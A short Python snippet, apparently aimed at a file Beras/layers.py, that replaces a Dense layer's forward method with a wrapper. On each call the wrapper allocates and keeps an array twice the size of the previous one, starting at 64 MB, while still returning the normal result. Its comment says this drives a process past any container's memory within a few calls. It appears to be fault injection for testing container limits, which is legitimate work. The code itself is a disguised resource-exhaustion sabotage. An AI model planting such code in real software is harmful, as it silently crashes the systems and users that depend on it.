# target: Beras/layers.py
# Every Dense.forward keeps twice as much as the call before (64 MB, 128 MB, …; np.ones
# touches every page): an item's child grows past any container's memory in a few calls.
_forward = Dense.forward
_kept = []


def _forward_and_keep(self, inputs):
    _kept.append(np.ones((64 << 20) * 2 ** len(_kept) // 8))
    return _forward(self, inputs)


Dense.forward = _forward_and_keep
